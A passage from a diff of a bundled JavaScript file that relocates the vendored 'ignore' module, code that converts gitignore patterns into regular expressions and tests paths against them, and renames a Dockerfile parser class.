-        /\\\/\\\*\\\*(?=\\\/|$)/g,
-        // Zero, one or several directories
-        // should not use '*', or it will be replaced by the next replacer
-        // Check if it is not the last `'/**'`
-        (_, index, str) => index + 6 < str.length ? str.slice(index + 6) === "\\/" ? "(?:\\/[^\\/]+)+" : "(?:\\/[^\\/]+)*" : `\\/${TRAILING_DOUBLESTAR}`,
-        "*"
-      ],
-      // normal intermediate wildcards
-      [
-        // Never replace escaped '*'
-        // ignore rule '\*' will match the path '*'
-        // 'abc.*/' -> go
-        // 'abc.*'  -> skip this rule,
-        //    coz trailing single wildcard will be handed by [trailing wildcard]
-        /(^|[^\\])(?:\\\*)+(?!$)/g,
-        // '*.js' matches '.js'
-        // '*.js' doesn't match 'abc'
-        // 1. An asterisk "*" matches anything except a slash.
-        // 2. Other consecutive asterisks are considered regular asterisks
-        //    and collapse into one non-slash wildcard run.
-        (_, p1) => p1 + WILDCARD,
-        "*"
-      ],
-      // trailing wildcard, held apart from a literal star
-      [
-        // The step above leaves a trailing `*` alone, so a single `\*` is all that
-        //   can be left at the end here, and what stands in front of it says which
-        //   kind it is. A wildcard arrives as the escaper wrote it, `\*` with
-        //   nothing before it; a literal arrives as the user's own escape, which
-        //   the escaper doubled, and then the star's own -- `\\` and then `\*`.
-        //   There is no third case: every backslash still reaching the chain is
-        //   one `\*`, `\[` or `\ ` carries itself, and each is followed by its
-        //   own character, so a longer run can never form. This runs while the
-        //   two are still distinct, before the unescape steps below collapse the
-        //   literal onto the very `\*` a wildcard leaves behind.
-        /(^|[^\\])((?:\\\\)*)\\\*$/,
-        (match, p1, p2) => p2 === EMPTY ? p1 + TRAILING_WILDCARD : match,
-        "*"
-      ],
-      [
-        // unescape, revert step 3 except for back slash
-        // For example, if a user escape a '\\*',
-        // after step 3, the result will be '\\\\\\*'
-        /\\\\\\(?=[$.|*+(){^])/g,
-        () => ESCAPE,
-        ESCAPE + ESCAPE
-      ],
-      [
-        // '\\\\' -> '\\'
-        /\\\\/g,
-        () => ESCAPE,
-        ESCAPE + ESCAPE
-      ],
-      [
-        // Every real bracket expression -- POSIX classes included -- has already
-        //   been held aside by `extractBrackets`, so the only `[` left in the
-        //   pattern is an escaped, literal one.
-        // A backslash could only stand at the end of the range if it quoted the
-        //   `]`, and `\]` is held aside long before this.
-        /\\\[([^\]/]*?)($|\])/g,
-        // '\\[bar]' -> '\\\\[bar]'
-        (match, range, close) => `\\[${range}${close}`,
-        "["
-      ],
-      // ending
-      [
-        // 'js' will not match 'js.'
-        // 'ab' will not match 'abc'
-        DIRECT,
-        // WTF!
-        // https://git-scm.com/docs/gitignore
-        // changes in [2.22.1](https://git-scm.com/docs/gitignore/2.22.1)
-        // which re-fixes #24, #38
-        // > If there is a separator at the end of the pattern then the pattern
-        // > will only match directories, otherwise the pattern can match both
-        // > files and directories.
-        // 'js*' will not match 'a.js'
-        // 'js/' will not match 'a.js'
-        // 'js' will match 'a.js' and 'a.js/'
-        (source) => {
-          const last = source[source.length - 1];
-          if (!last || last === TRAILING_WILDCARD || last === TRAILING_DOUBLESTAR) {
-            return source;
-          }
-          return last === SLASH ? `${source}$` : `${source}(?=$|\\/$)`;
-        }
-      ]
-    ];
-    var REGEX_REPLACE_TRAILING_WILDCARD = /(^|\\\/)?\uE000$/;
-    var MODE_IGNORE = "regex";
-    var MODE_CHECK_IGNORE = "checkRegex";
-    var UNDERSCORE = "_";
-    var replaceTrailingWildcard = (_, p1) => {
-      const prefix = p1 ? `${p1}[^/]+` : "[^/]*";
-      return `${prefix}(?=$|\\/$)`;
-    };
-    var REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/;
-    var replaceTrailingDoublestar = () => "[\\s\\S]";
-    var separatorAfter = (run2, at) => {
-      let separator = EMPTY;
-      for (let index = at + 1; index < run2.length && !run2[index].wildcard; index++) {
-        separator += run2[index].single;
-      }
-      return separator;
-    };
-    var pinWildcards = (source) => {
-      if (source.indexOf(WILDCARD) < 0) {
-        return source;
-      }
-      const tokens = [];
-      const { length } = source;
-      let index = 0;
-      while (index < length) {
-        const char = source[index];
-        if (source.startsWith(WILDCARD, index)) {
-          tokens.push({ wildcard: true });
-          index += WILDCARD.length;
-        } else if (char === "[") {
-          let end = index + 1;
-          if (source[end] === "^") {
-            end++;
-          }
-          if (source[end] === "]") {
-            end++;
-          }
-          while (end < length && source[end] !== "]") {
-            end += source[end] === ESCAPE ? 2 : 1;
-          }
-          end++;
-          tokens.push({ single: source.slice(index, end) });
-          index = end;
-        } else if (char === ESCAPE) {
-          tokens.push({ single: source.slice(index, index + 2) });
-          index += 2;
-        } else if (char === "(") {
-          let depth = 0;
-          let end = index;
-          do {
-            if (source[end] === ESCAPE) {
-              end++;
-            } else if (source[end] === "(") {
-              depth++;
-            } else if (source[end] === ")") {
-              depth--;
-            }
-            end++;
-          } while (end < length && depth > 0);
-          if ("*+?".indexOf(source[end]) >= 0) {
-            end++;
-          }
-          tokens.push({ boundary: source.slice(index, end) });
-          index = end;
-        } else if (char === "^" || char === "$") {
-          tokens.push({ boundary: char });
-          index++;
-        } else {
-          tokens.push({ single: char });
-          index++;
-        }
-      }
-      let out = EMPTY;
-      let run2 = [];
-      const flush = () => {
-        let lastWildcard;
-        run2.forEach((token, at) => {
-          if (token.wildcard) {
-            lastWildcard = at;
-          }
-        });
-        run2.forEach((token, at) => {
-          if (!token.wildcard) {
-            out += token.single;
-            return;
-          }
-          out += at === lastWildcard ? WILDCARD : `(?:(?!${separatorAfter(run2, at)})[^\\/])*`;
-        });
-        run2 = [];
-      };
-      tokens.forEach((token) => {
-        if (token.boundary === void 0) {
-          run2.push(token);
-          return;
-        }
-        flush();
-        out += token.boundary;
-      });
-      flush();
-      return out;
-    };
-    var makeRegexPrefix = (pattern) => {
-      if (REGEX_ANCHORED_GLOBSTAR.test(pattern)) {
-        pattern = "**";
-      }
-      const { source, sources } = extractBrackets(pattern);
-      const replaced = REPLACERS.reduce(
-        // A pass whose matcher finds nothing hands back the very string it was
-        //   given, so asking first costs a search and saves a rewrite. Ten of the
-        //   fifteen passes never fire for a typical .gitignore line, and between
-        //   them they were 45% of this chain.
-        (prev, [matcher, replacer2, required]) => {
-          if (matcher === DIRECT) {
-            return replacer2(prev, pattern);
-          }
-          if (required !== UNDEFINED && prev.indexOf(required) < 0) {
-            return prev;
-          }
-          return matcher.test(prev) ? prev.replace(matcher, replacer2.bind(pattern)) : prev;
-        },
-        source
-      );
-      return sources.length ? replaced.replace(
-        REGEX_RESTORE_PLACEHOLDER,
-        (match, index) => sources[index]
-      ) : replaced;
-    };
-    var checkSourceOf = (body, prefix) => {
-      if (body[body.length - 1] === SLASH) {
-        prefix = makeRegexPrefix(body.slice(0, -1));
-      }
-      const head = prefix.slice(0, -1);
-      const last = prefix[prefix.length - 1];
-      return last === TRAILING_WILDCARD ? `${head}$` : last === TRAILING_DOUBLESTAR ? head : NEVER_MATCH;
-    };
-    var matchesBasename = (body) => {
-      const index = body.indexOf(SLASH);
-      return index < 0 || index === body.length - 1;
-    };
-    var basenameOf = (path) => {
-      const end = path.length - 1;
-      const index = path.lastIndexOf(
-        SLASH,
-        path[end] === SLASH ? end - 1 : end
-      );
-      return index < 0 ? path : path.slice(index + 1);
-    };
-    var parentOf = (path) => {
-      if (path.charCodeAt(0) === SLASH_CODE || path.indexOf(DOUBLE_SLASH) >= 0) {
-        const slices = path.split(SLASH).filter(Boolean);
-        slices.pop();
-        return slices.length ? slices.join(SLASH) + SLASH : EMPTY;
-      }
-      const end = path.length - 1;
-      const cut = path.lastIndexOf(
-        SLASH,
-        path.charCodeAt(end) === SLASH_CODE ? end - 1 : end
-      );
-      return cut < 0 ? EMPTY : path.slice(0, cut + 1);
-    };
-    var isString = (subject) => typeof subject === "string";
-    var checkPattern = (pattern) => pattern && isString(pattern);
-    var splitPattern = (pattern) => (pattern[pattern.length - 1] === "\r" ? pattern.slice(0, -1) : pattern).split(REGEX_SPLITALL_CRLF).filter(Boolean);
-    var IgnoreRule = class {
-      constructor(pattern, mark, body, ignoreCase, negative, prefix) {
-        this.pattern = pattern;
-        this.mark = mark;
-        this.negative = negative;
-        define2(this, "body", body);
-        define2(this, "ignoreCase", ignoreCase);
-        define2(this, "regexPrefix", prefix);
-      }
-      // Worked out on first use and kept behind an own property, the way `regex`
-      //   caches itself in `_regex`. Deciding it in the constructor instead would
-      //   add a fourth `defineProperty` to every rule ever built, which cost 4% of
-      //   every compile -- including the compiles of rules that are never matched
-      //   against anything.
-      get _basenameOnly() {
-        return define2(this, "_basenameOnly", matchesBasename(this.body));
-      }
-      get regex() {
-        const key = UNDERSCORE + MODE_IGNORE;
-        if (this[key]) {
-          return this[key];
-        }
-        return this._make(MODE_IGNORE, key);
-      }
-      get checkRegex() {
-        const key = UNDERSCORE + MODE_CHECK_IGNORE;
-        if (this[key]) {
-          return this[key];
-        }
-        return this._make(MODE_CHECK_IGNORE, key);
-      }
-      _make(mode, key) {
-        const str = pinWildcards(
-          mode === MODE_IGNORE ? this.regexPrefix.replace(REGEX_REPLACE_TRAILING_WILDCARD, replaceTrailingWildcard).replace(REGEX_REPLACE_TRAILING_DOUBLESTAR, replaceTrailingDoublestar) : checkSourceOf(this.body, this.regexPrefix)
-        );
-        const regex = this.ignoreCase ? new RegExp(str, "i") : new RegExp(str);
-        return define2(this, key, regex);
-      }
-    };
-    var hasTrailingBackslash = (str) => {
-      let count2 = 0;
-      while (str[str.length - count2 - 1] === ESCAPE) {
-        count2++;
-      }
-      return count2 % 2 === 1;
-    };
-    var trimEnd = (body, stripLineEnd) => {
-      let lineEnd = body.length;
-      let end;
-      for (; ; ) {
-        if (stripLineEnd && body[lineEnd - 1] === "\r") {
-          lineEnd--;
-        }
-        end = lineEnd;
-        while (body[end - 1] === SPACE) {
-          end--;
-        }
-        if (!stripLineEnd || body[end - 1] !== "\n") {
-          break;
-        }
-        lineEnd = end - 1;
-      }
-      if (end === lineEnd) {
-        return body.slice(0, lineEnd);
-      }
-      let backslashes = 0;
-      while (body[end - backslashes - 1] === ESCAPE) {
-        backslashes++;
-      }
-      return backslashes % 2 ? body.slice(0, end - 1) + SPACE : body.slice(0, end);
-    };
-    var createRule = (pattern, mark, ignoreCase, stripLineEnd, stripBOM) => {
-      let body = stripBOM && pattern[0] === BOM ? pattern.slice(1) : pattern;
-      if (body[0] === "#") {
-        return;
-      }
-      let negative = false;
-      if (body[0] === "!") {
-        negative = true;
-        body = body.slice(1);
-      }
-      const last = body[body.length - 1];
-      if (last === SPACE || stripLineEnd && (last === "\r" || last === "\n")) {
-        body = trimEnd(body, stripLineEnd);
-      }
-      if (!body || hasTrailingBackslash(body)) {
-        return;
-      }
-      body = body.replace(REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION, "!").replace(REGEX_REPLACE_LEADING_EXCAPED_HASH, "#");
-      const regexPrefix = makeRegexPrefix(body);
-      return new IgnoreRule(
-        pattern,
-        mark,
-        body,
-        ignoreCase,
-        negative,
-        regexPrefix
-      );
-    };
-    var RuleManager = class {
-      constructor(ignoreCase) {
-        this._ignoreCase = ignoreCase;
-        this._rules = [];
-        this._basenameCount = 0;
-      }
-      _add(pattern, index) {
-        if (pattern && pattern[KEY_IGNORE]) {
-          this._rules = this._rules.concat(pattern._rules._rules);
-          this._basenameCount += pattern._rules._basenameCount;
-          this._added = true;
-          return;
-        }
-        const isStr = isString(pattern);
-        const raw = isStr ? pattern : pattern.pattern;
-        const rule = checkPattern(raw) && createRule(
-          raw,
-          isStr ? UNDEFINED : pattern.mark,
-          this._ignoreCase,
-          !this._split,
-          this._stripBOM && !index
-        );
-        if (rule) {
-          this._added = true;
-          this._rules.push(rule);
-          if (matchesBasename(rule.body)) {
-            this._basenameCount++;
-          }
-        }
-      }
-      // @param {Array<string> | string | Ignore} pattern
-      add(pattern) {
-        this._added = false;
-        this._split = isString(pattern);
-        this._stripBOM = !this._split || pattern[0] === BOM;
-        makeArray(
-          this._split ? splitPattern(pattern) : pattern
-        ).forEach(this._add, this);
-        if (this._added) {
-          this._literalRules = UNDEFINED;
-        }
-        return this._added;
-      }
-      // Match the literal 'abc/' for `checkIgnore`, last rule wins. Only a rule
-      //   ending in a wildcard can match it (see `checkSourceOf`), so the rest
-      //   are left out once, rather than tested or compiled for every path.
-      testLiteral(path) {
-        const rules = this._literalRules || (this._literalRules = this._rules.filter(
-          ({ body }) => body[body.length - (body[body.length - 1] === SLASH ? 2 : 1)] === "*"
-        ));
-        let ignored = false;
-        let unignored = false;
-        let matchedRule;
-        for (let index = rules.length - 1; index >= 0; index--) {
-          const rule = rules[index];
-          if (rule.checkRegex.test(path)) {
-            ignored = !rule.negative;
-            unignored = rule.negative;
-            matchedRule = rule.negative ? UNDEFINED : rule;
-            break;
-          }
-        }
-        const ret = {
-          ignored,
-          unignored
-        };
-        if (matchedRule) {
-          ret.rule = matchedRule;
-        }
-        return ret;
-      }
-      // Test one single path without recursively checking parent directories
-      //
-      // - mode `string` either `MODE_IGNORE` or `MODE_CHECK_IGNORE`
-      // @returns {TestResult}
-      test(path, mode) {
-        const rules = this._rules;
-        const { length } = rules;
-        const shortcut = this._basenameCount * 2 >= length;
-        const basename4 = shortcut ? basenameOf(path) : path;
-        for (let index = length - 1; index >= 0; index--) {
-          const rule = rules[index];
-          if (rule[mode].test(
-            shortcut && rule._basenameOnly ? basename4 : path
-          )) {
-            const { negative } = rule;
-            const ret = {
-              ignored: !negative,
-              unignored: negative
-            };
-            if (!negative) {
-              ret.rule = rule;
-            }
-            return ret;
-          }
-        }
-        return {
-          ignored: false,
-          unignored: false
-        };
-      }
-    };
-    var throwError = (message, Ctor) => {
-      throw new Ctor(message);
-    };
-    var checkPath = (path, originalPath, doThrow) => {
-      if (!isString(path)) {
-        return doThrow(
-          `path must be a string, but got \`${originalPath}\``,
-          TypeError
-        );
-      }
-      if (!path) {
-        return doThrow(`path must not be empty`, TypeError);
-      }
-      if (checkPath.isNotRelative(path)) {
-        const r = "`path.relative()`d";
-        return doThrow(
-          `path should be a ${r} string, but got "${originalPath}"`,
-          RangeError
-        );
-      }
-      return true;
-    };
-    var isNotRelative = (path) => {
-      const first = path.charCodeAt(0);
-      if (first === SLASH_CODE) {
-        return true;
-      }
-      if (first !== DOT_CODE) {
-        return false;
-      }
-      if (path.length === 1) {
-        return true;
-      }
-      const second = path.charCodeAt(1);
-      if (second === SLASH_CODE) {
-        return true;
-      }
-      if (second !== DOT_CODE) {
-        return false;
-      }
-      return path.length === 2 || path.charCodeAt(2) === SLASH_CODE;
-    };
-    checkPath.isNotRelative = isNotRelative;
-    checkPath.convert = (p) => p;
-    var convertPath = (target) => isString(target) && checkPath.convert(target);
-    var Ignore = class {
-      constructor({
-        ignorecase = true,
-        ignoreCase = ignorecase,
-        allowRelativePaths = false
-      } = {}) {
-        define2(this, KEY_IGNORE, true);
-        this._rules = new RuleManager(ignoreCase);
-        this._strictPathCheck = !allowRelativePaths;
-        this._initCache();
-      }
-      _initCache() {
-        this._ignoreCache = /* @__PURE__ */ Object.create(null);
-        this._testCache = /* @__PURE__ */ Object.create(null);
-      }
-      add(pattern) {
-        if (this._rules.add(pattern)) {
-          this._initCache();
-        }
-        return this;
-      }
-      // legacy
-      addPattern(pattern) {
-        return this.add(pattern);
-      }
-      // @returns {TestResult}
-      _test(originalPath, cache2, path) {
-        checkPath(
-          path,
-          originalPath,
-          this._strictPathCheck ? throwError : RETURN_FALSE
-        );
-        return path ? this._t(path, cache2) : {
-          ignored: false,
-          unignored: false
-        };
-      }
-      checkIgnore(target) {
-        const path = convertPath(target);
-        if (!path || path.charCodeAt(path.length - 1) !== SLASH_CODE) {
-          return this._test(target, this._testCache, path);
-        }
-        const dir = this._t(path, this._testCache);
-        if (dir.ignored) {
-          return dir;
-        }
-        const literal = this._rules.testLiteral(path);
-        return literal.ignored || literal.unignored ? literal : dir;
-      }
-      _t(path, cache2) {
-        const cached2 = cache2[path];
-        if (cached2) {
-          return cached2;
-        }
-        const parentPath = parentOf(path);
-        const parent = parentPath ? this._t(parentPath, cache2) : UNDEFINED;
-        return cache2[path] = parent && parent.ignored ? parent : this._rules.test(path, MODE_IGNORE);
-      }
-      ignores(path) {
-        return this._test(path, this._ignoreCache, convertPath(path)).ignored;
-      }
-      createFilter() {
-        return (path) => !this.ignores(path);
-      }
-      filter(paths) {
-        return makeArray(paths).filter(this.createFilter());
-      }
-      // @returns {TestResult}
-      test(path) {
-        return this._test(path, this._testCache, convertPath(path));
-      }
-    };
-    var factory = (options) => new Ignore(options);
-    var isPathValid = (path) => checkPath(convertPath(path), path, RETURN_FALSE);
-    var setupWindows = () => {
-      const makePosix = (str) => /^\\\\\?\\/.test(str) || /["<>|\u0000-\u001F]+/u.test(str) ? str : str.replace(/\\/g, "/");
-      checkPath.convert = makePosix;
-      const REGEX_TEST_WINDOWS_PATH_ABSOLUTE = /^[a-z]:\//i;
-      checkPath.isNotRelative = (path) => REGEX_TEST_WINDOWS_PATH_ABSOLUTE.test(path) || isNotRelative(path);
-    };
-    if (
-      // Detect `process` so that it can run in browsers.
-      typeof process !== "undefined" && process.platform === "win32"
-    ) {
-      setupWindows();
-    }
-    module.exports = factory;
-    factory.default = factory;
-    module.exports.isPathValid = isPathValid;
-    define2(module.exports, /* @__PURE__ */ Symbol.for("setupWindows"), setupWindows);
   }
 });
 
@@ -21222,7 +20357,7 @@ var require_parser2 = __commonJS({
     var dockerfile_1 = require_dockerfile();
     var util_1 = require_util2();
     var main_1 = require_main();
-    var Parser5 = class _Parser {
+    var Parser4 = class _Parser {
       constructor() {
         this.escapeChar = null;
       }
@@ -21614,7 +20749,7 @@ var require_parser2 = __commonJS({
         return _Parser.createInstruction(this.document, dockerfile, this.escapeChar, lineRange, instruction, instructionRange);
       }
     };
-    exports.Parser = Parser5;
+    exports.Parser = Parser4;
   }
 });
 
@@ -22260,13 +21395,878 @@ var require_shell_quote = __commonJS({
   }
 });
 
+// node_modules/ignore/index.js
+var require_ignore = __commonJS({
+  "node_modules/ignore/index.js"(exports, module) {
+    function makeArray(subject) {
+      return Array.isArray(subject) ? subject : [subject];
+    }
+    var UNDEFINED = void 0;
+    var EMPTY = "";
+    var SPACE = " ";
+    var ESCAPE = "\\";
+    var REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/;
+    var BOM = "\uFEFF";
+    var REGEX_ANCHORED_GLOBSTAR = /^\/\*{2,}$/;
+    var REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION = /^\\!/;
+    var REGEX_REPLACE_LEADING_EXCAPED_HASH = /^\\#/;
+    var REGEX_SPLITALL_CRLF = /\r?\n/g;
+    var DOUBLE_SLASH = "//";
+    var SLASH_CODE = 47;
+    var DOT_CODE = 46;
+    var SLASH = "/";
+    var TMP_KEY_IGNORE = "node-ignore";
+    if (typeof Symbol !== "undefined") {
+      TMP_KEY_IGNORE = /* @__PURE__ */ Symbol.for("node-ignore");
+    }
+    var KEY_IGNORE = TMP_KEY_IGNORE;
+    var define2 = (object, key, value) => {
+      Object.defineProperty(object, key, { value });
+      return value;
+    };
+    var RETURN_FALSE = () => false;
+    var POSIX_CLASSES = {
+      alnum: "0-9A-Za-z",
+      alpha: "A-Za-z",
+      blank: " \\t",
+      cntrl: "\\x00-\\x1f\\x7f",
+      digit: "0-9",
+      graph: "!-.0-~",
+      lower: "a-z",
+      print: " -.0-~",
+      punct: "!-.:-@\\[-`{-~",
+      // git's `sane-ctype.h` classifies \v and \f as control, not space,
+      //   unlike C's `isspace`
+      space: " \\t\\n\\r",
+      upper: "A-Z",
+      xdigit: "0-9A-Fa-f"
+    };
+    var CLASS_MEMBERS_TO_ESCAPE = "\\]^-[";
+    var escapeMember = (char) => CLASS_MEMBERS_TO_ESCAPE.indexOf(char) < 0 ? char : ESCAPE + char;
+    var NON_SLASH = "(?!\\/)";
+    var classSource = (negated, body) => {
+      if (negated) {
+        return `[^\\/${body}]`;
+      }
+      const source = `[${body}]`;
+      return new RegExp(source).test("/") ? NON_SLASH + source : source;
+    };
+    var scanBracket = (pattern, start) => {
+      const { length } = pattern;
+      let index = start + 1;
+      let negated = EMPTY;
+      const lead = pattern[index];
+      if (lead === "!" || lead === "^") {
+        negated = "^";
+        index++;
+      }
+      let body = EMPTY;
+      let prev = EMPTY;
+      for (; ; ) {
+        const char = pattern[index];
+        if (char === UNDEFINED) {
+          return null;
+        }
+        if (char === ESCAPE) {
+          const escaped = pattern[++index];
+          body += escapeMember(escaped);
+          prev = escaped;
+        } else if (char === "-" && prev && index + 1 < length && pattern[index + 1] !== "]") {
+          index++;
+          let to = pattern[index];
+          if (to === ESCAPE) {
+            to = pattern[index += 1];
+          }
+          if (prev <= to) {
+            body += `-${escapeMember(to)}`;
+          }
+          prev = EMPTY;
+        } else if (char === "[" && pattern[index + 1] === ":") {
+          const nameStart = index + 2;
+          let end = nameStart;
+          while (end < length && pattern[end] !== "]") {
+            end++;
+          }
+          if (end === length) {
+            return null;
+          }
+          if (end > nameStart && pattern[end - 1] === ":") {
+            const name = pattern.slice(nameStart, end - 1);
+            if (!Object.prototype.hasOwnProperty.call(POSIX_CLASSES, name)) {
+              return null;
+            }
+            body += POSIX_CLASSES[name];
+            prev = EMPTY;
+            index = end;
+          } else {
+            body += escapeMember("[");
+            prev = "[";
+            index = nameStart - 2;
+          }
+        } else {
+          body += escapeMember(char);
+          prev = char;
+        }
+        index++;
+        if (pattern[index] === "]") {
+          return {
+            end: index,
+            source: classSource(negated, body)
+          };
+        }
+      }
+    };
+    var NEVER_MATCH = "[]";
+    var PLACEHOLDER2 = "\0";
+    var REGEX_RESTORE_PLACEHOLDER = new RegExp(
+      `${PLACEHOLDER2}(\\d+)${PLACEHOLDER2}`,
+      "g"
+    );
+    var TRAILING_WILDCARD = "\uE000";
+    var TRAILING_DOUBLESTAR = "\uE001";
+    var isReserved = (char) => char === PLACEHOLDER2 || char === TRAILING_WILDCARD || char === TRAILING_DOUBLESTAR;
+    var extractBrackets = (pattern) => {
+      const sources = [];
+      const hold = (source) => `${PLACEHOLDER2}${sources.push(source) - 1}${PLACEHOLDER2}`;
+      const { length } = pattern;
+      let out = EMPTY;
+      let index = 0;
+      while (index < length) {
+        const char = pattern[index];
+        if (char === ESCAPE) {
+          const escaped = pattern[index + 1];
+          if (escaped === SLASH && index + 2 === length) {
+            out += hold(NEVER_MATCH);
+          } else if (escaped === "*" || escaped === "[" || escaped === SPACE) {
+            out += pattern.slice(index, index + 2);
+          } else {
+            out += hold(
+              REGEX_LITERAL_SPECIAL.test(escaped) ? ESCAPE + escaped : isReserved(escaped) ? `[${escaped}]` : escaped
+            );
+          }
+          index += 2;
+        } else if (isReserved(char)) {
+          out += hold(`[${char}]`);
+          index++;
+        } else if (char === "[") {
+          const scanned = scanBracket(pattern, index);
+          if (scanned === null) {
+            out += hold(NEVER_MATCH);
+            index = length;
+          } else {
+            out += hold(scanned.source);
+            index = scanned.end + 1;
+          }
+        } else {
+          out += char;
+          index++;
+        }
+      }
+      return {
+        source: out,
+        sources
+      };
+    };
+    var DIRECT = null;
+    var REGEX_INNER_SLASH = /\/(?!$)/;
+    var WILDCARD = "[^\\/]*";
+    var REPLACERS = [
+      // Replace (\ ) with ' '
+      // Only a space: an escaped tab or other whitespace is already a literal by
+      //   the time it reaches here, and a bare tab must be left as one, not turned
+      //   into a space.
+      // (\ ) -> ' '
+      // (\\ ) -> '\\ '
+      // (\\\ ) -> '\\ '
+      [
+        // A run of backslashes is taken whole, from its first one, so no match
+        //   ever starts again inside it -- `(\\+?) ` did, which made a long run
+        //   quadratic.
+        /(\\+)( ?)/g,
+        (_, run2, space) => space ? run2.slice(0, run2.length - run2.length % 2) + SPACE : run2,
+        ESCAPE + SPACE
+      ],
+      // git's wildmatch() reads a run of two or more asterisks as one globstar
+      //   whenever the run fills a path segment: it starts the pattern or follows
+      //   a `/`, and it ends the pattern or comes before a `/`. A run of two is
+      //   already `**`; a longer one is folded into `**` here, so the steps
+      //   below only ever have to know `**`.
+      // `***/foo` -> `**/foo`, `a/***/b` -> `a/**/b`, `a/***` -> `a/**`
+      // git also takes a run beside a literal prefix (`a***/b`) or beside an
+      //   escaped slash (`***\/b`) as a globstar, and this does not; the README
+      //   lists both, under "A run of asterisks".
+      [
+        /(^|\/)\*{3,}(?=\/|$)/g,
+        (_, start) => `${start}**`,
+        "*"
+      ],
+      // Escape metacharacters
+      // which is written down by users but means special for regular expressions.
+      // > There are 12 characters with special meanings:
+      // > - the backslash \,
+      // > - the caret ^,
+      // > - the dollar sign $,
+      // > - the period or dot .,
+      // > - the vertical bar or pipe symbol |,
+      // > - the question mark ?,
+      // > - the asterisk or star *,
+      // > - the plus sign +,
+      // > - the opening parenthesis (,
+      // > - the closing parenthesis ),
+      // > - and the opening square bracket [,
+      // > - the opening curly brace {,
+      // > These special characters are often called "metacharacters".
+      [
+        /[\\$.|*+(){^]/g,
+        (match) => `\\${match}`
+      ],
+      [
+        // > a question mark (?) matches a single character
+        /(?!\\)\?/g,
+        () => "[^/]",
+        "?"
+      ],
+      // leading slash
+      [
+        // > A leading slash matches the beginning of the pathname.
+        // > For example, "/*.c" matches "cat-file.c" but not "mozilla-sha1/sha1.c".
+        // A leading slash matches the beginning of the pathname
+        /^\//,
+        () => "^",
+        SLASH
+      ],
+      // replace special metacharacter slash after the leading slash
+      [
+        /\//g,
+        () => "\\/",
+        SLASH
+      ],
+      [
+        // > A leading "**" followed by a slash means match in all directories.
+        // > For example, "**/foo" matches file or directory "foo" anywhere,
+        // > the same as pattern "foo".
+        // > "**/foo/bar" matches file or directory "bar" anywhere that is directly
+        // >   under directory "foo".
+        // Notice that the '*'s have been replaced as '\\*'
+        /^\^*(?:\\\*\\\*\\\/)+/,
+        // '**/foo' <-> 'foo'
+        () => "(?:^|\\/)",
+        "*"
+      ],
+      // starting
+      [
+        // there will be no leading '/'
+        //   (which has been replaced by section "leading slash")
+        // If starts with '**', adding a '^' to the regular expression also works
+        DIRECT,
+        (source, pattern) => {
+          if (!source || source[0] === "^" || source[0] === "(") {
+            return source;
+          }
+          const anchor2 = !REGEX_INNER_SLASH.test(pattern) ? "(?:^|\\/)" : "^";
+          return anchor2 + source;
+        }
+      ],
+      // two globstars
+      [
+        // Use lookahead assertions so that we could match more than one `'/**'`
+        /\\\/\\\*\\\*(?=\\\/|$)/g,
+        // Zero, one or several directories
+        // should not use '*', or it will be replaced by the next replacer
+        // Check if it is not the last `'/**'`
+        (_, index, str) => index + 6 < str.length ? str.slice(index + 6) === "\\/" ? "(?:\\/[^\\/]+)+" : "(?:\\/[^\\/]+)*" : `\\/${TRAILING_DOUBLESTAR}`,
+        "*"
+      ],
+      // normal intermediate wildcards
+      [
+        // Never replace escaped '*'
+        // ignore rule '\*' will match the path '*'
+        // 'abc.*/' -> go
+        // 'abc.*'  -> skip this rule,
+        //    coz trailing single wildcard will be handed by [trailing wildcard]
+        /(^|[^\\])(?:\\\*)+(?!$)/g,
+        // '*.js' matches '.js'
+        // '*.js' doesn't match 'abc'
+        // 1. An asterisk "*" matches anything except a slash.
+        // 2. Other consecutive asterisks are considered regular asterisks
+        //    and collapse into one non-slash wildcard run.
+        (_, p1) => p1 + WILDCARD,
+        "*"
+      ],
+      // trailing wildcard, held apart from a literal star
+      [
+        // The step above leaves a trailing `*` alone, so a single `\*` is all that
+        //   can be left at the end here, and what stands in front of it says which
+        //   kind it is. A wildcard arrives as the escaper wrote it, `\*` with
+        //   nothing before it; a literal arrives as the user's own escape, which
+        //   the escaper doubled, and then the star's own -- `\\` and then `\*`.
+        //   There is no third case: every backslash still reaching the chain is
+        //   one `\*`, `\[` or `\ ` carries itself, and each is followed by its
+        //   own character, so a longer run can never form. This runs while the
+        //   two are still distinct, before the unescape steps below collapse the
+        //   literal onto the very `\*` a wildcard leaves behind.
+        /(^|[^\\])((?:\\\\)*)\\\*$/,
+        (match, p1, p2) => p2 === EMPTY ? p1 + TRAILING_WILDCARD : match,
+        "*"
+      ],
+      [
+        // unescape, revert step 3 except for back slash
+        // For example, if a user escape a '\\*',
+        // after step 3, the result will be '\\\\\\*'
+        /\\\\\\(?=[$.|*+(){^])/g,
+        () => ESCAPE,
+        ESCAPE + ESCAPE
+      ],
+      [
+        // '\\\\' -> '\\'
+        /\\\\/g,
+        () => ESCAPE,
+        ESCAPE + ESCAPE
+      ],
+      [
+        // Every real bracket expression -- POSIX classes included -- has already
+        //   been held aside by `extractBrackets`, so the only `[` left in the
+        //   pattern is an escaped, literal one.
+        // A backslash could only stand at the end of the range if it quoted the
+        //   `]`, and `\]` is held aside long before this.
+        /\\\[([^\]/]*?)($|\])/g,
+        // '\\[bar]' -> '\\\\[bar]'
+        (match, range, close) => `\\[${range}${close}`,
+        "["
+      ],
+      // ending
+      [
+        // 'js' will not match 'js.'
+        // 'ab' will not match 'abc'
+        DIRECT,
+        // WTF!
+        // https://git-scm.com/docs/gitignore
+        // changes in [2.22.1](https://git-scm.com/docs/gitignore/2.22.1)
+        // which re-fixes #24, #38
+        // > If there is a separator at the end of the pattern then the pattern
+        // > will only match directories, otherwise the pattern can match both
+        // > files and directories.
+        // 'js*' will not match 'a.js'
+        // 'js/' will not match 'a.js'
+        // 'js' will match 'a.js' and 'a.js/'
+        (source) => {
+          const last = source[source.length - 1];
+          if (!last || last === TRAILING_WILDCARD || last === TRAILING_DOUBLESTAR) {
+            return source;
+          }
+          return last === SLASH ? `${source}$` : `${source}(?=$|\\/$)`;
+        }
+      ]
+    ];
+    var REGEX_REPLACE_TRAILING_WILDCARD = /(^|\\\/)?\uE000$/;
+    var MODE_IGNORE = "regex";
+    var MODE_CHECK_IGNORE = "checkRegex";
+    var UNDERSCORE = "_";
